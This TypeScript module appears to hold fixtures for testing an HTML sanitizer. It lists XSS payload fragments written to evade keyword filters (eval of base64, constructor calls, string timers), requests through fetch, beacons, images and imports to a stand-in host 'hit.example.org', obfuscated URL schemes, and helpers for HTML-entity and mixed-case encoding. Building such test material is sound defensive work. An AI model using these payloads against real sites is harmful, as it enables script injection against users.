/** Where a payload would call if it could: a name that nobody has, so that any request to it shows in the log. */
export const callingHome = 'hit.example.org';

/** What running leaves behind, in any window of the program. */
export const ranMark = '__ran';

/** What a script in a payload does: leaves a mark, in ways that filters of words miss. */
export const effects: readonly string[] = [
  `top.${ranMark}=1`,
  `parent['${ranMark}']=1`,
  `self[\`${ranMark}\`]=1`,
  `globalThis.${ranMark}=1`,
  `alert(1)`,
  `confirm\`1\``,
  `print()`,
  `location='//${callingHome}/nav'`,
  `open('//${callingHome}/open')`,
  `fetch('//${callingHome}/fetch')`,
  `new Image().src='//${callingHome}/img'`,
  `navigator.sendBeacon('//${callingHome}/beacon')`,
  `import('//${callingHome}/module')`,
  `eval(atob('${Buffer.from(`top.${ranMark}=1`).toString('base64')}'))`,
  `[].constructor.constructor('top.${ranMark}=1')()`,
  `setTimeout('top.${ranMark}=1')`,
];

/** Where a payload loads from, written in ways that are the same place. */
export const places: readonly string[] = [
  `https://${callingHome}/x`,
  `http://${callingHome}/x`,
  `//${callingHome}/x`,
  `\\\\${callingHome}\\x`,
  `/\\${callingHome}/x`,
  `ht\ntps://${callingHome}/x`,
  `HTTPS:${callingHome}/x`,
  `file://${callingHome}/x`,
  `ftp://${callingHome}/x`,
  `smb://${callingHome}/x`,
  `wss://${callingHome}/x`,
];

/** The letters one by one as references of HTML, in the three ways it knows. */
export const asReferences = (text: string, form: 'decimal' | 'hex' | 'padded'): string =>
  Array.from(text, (letter) => {
    const code = letter.codePointAt(0) ?? 0;
    if (form === 'hex') return `&#x${code.toString(16)};`;
    return form === 'padded' ? `&#${String(code).padStart(7, '0')}` : `&#${code};`;
  }).join('');

/** Upper and lower letters by turns. */
export const mixed = (text: string): string =>
  Array.from(text, (letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter.toLowerCase())).join('');
